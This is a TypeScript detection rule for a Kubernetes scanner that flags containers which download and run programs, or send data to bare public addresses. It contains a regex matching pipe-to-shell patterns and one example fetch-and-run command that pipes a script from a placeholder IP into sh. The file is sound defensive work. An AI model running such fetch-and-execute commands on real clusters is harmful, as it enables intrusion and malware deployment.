import { networkOf } from '../../addresses.ts';
import { quote } from '../../text.ts';
import { shownContainer } from '../claim.ts';
import { actingText, BEHIND_BAR } from '../command.ts';
import { downloadIn } from '../download.ts';
import { podRule, sightingFor } from '../pod-rule.ts';

/** A shell, or a scripting language, that runs what it is given by a pipe or a substitution. */
const RUN = new RegExp(
  `\\|\\s{0,8}${BEHIND_BAR}(?:(?:ba|da|z|k|a)?sh|python[\\d.]{0,4}|perl)(?![\\w.-])|\\b(?:ba|da|z|k|a)?sh\\s{1,8}(?:-[a-z]{1,6}\\s{1,8})?["']?[$<]\\(\\)|(?:^|[\\s;&|({])(?:\\.|source)\\s{1,8}<\\(\\)|\\beval\\s{1,8}\\$\\(\\)`,
);
/** Installers are run straight from the web in builds and workflows too. */
const FROM_NAME = { severity: 'medium', confidence: 0.4 } as const;

/** A workload that gets its program from elsewhere when it starts. */
export const downloadInSpec = podRule({
  id: 'download-in-spec',
  title: 'Workload that runs what it downloads',
  sees: 'A command, argument, hook or probe of a container that fetches something with curl, wget, a similar program, a bare connection or the library of a scripting language from a bare public address and keeps or runs it, or sends a file or its input there (high); or that gives what it fetches from a named host straight to a shell (medium 0.40).',
  why: 'The image is harmless and passes every scan; the program comes from a server that only the attacker knows. This is how Kinsing and others start in clusters.',
  technique: [
    { id: 'T1105', name: 'Ingress Tool Transfer' },
    { id: 'T1610', name: 'Deploy Container' },
  ],
  severity: 'high',
  confidence: 0.65,
  family: 'spec',
  falsePositives: ['Own servers without a name', 'Installers that run in builds and workflows'],
  example: "kubectl run x --image=ubuntu -- bash -c 'curl -s http://203.0.113.9/k.sh | sh'",
  look: ({ containers }) => {
    const told = containers.flatMap(({ name, runs }) =>
      runs.flatMap((line) => {
        const found = downloadIn(line);
        if (found === undefined || !(found.kept || found.sends)) return [];
        const bare = networkOf(found.host) === 'public';
        if (!bare && !RUN.test(actingText(line))) return [];
        const what = !found.kept
          ? 'sends something to'
          : `${bare ? 'fetches something to keep or run' : 'runs what it fetches'} from`;
        const sentence = `${shownContainer(name)} ${what} ${quote(found.host, 253)}, by ${quote(line, 300)}`;
        return [{ bare, sentence }];
      }),
    );
    const sentences = told.map(({ sentence }) => sentence);
    return sightingFor(sentences, told.some(({ bare }) => bare) ? {} : FROM_NAME);
  },
});
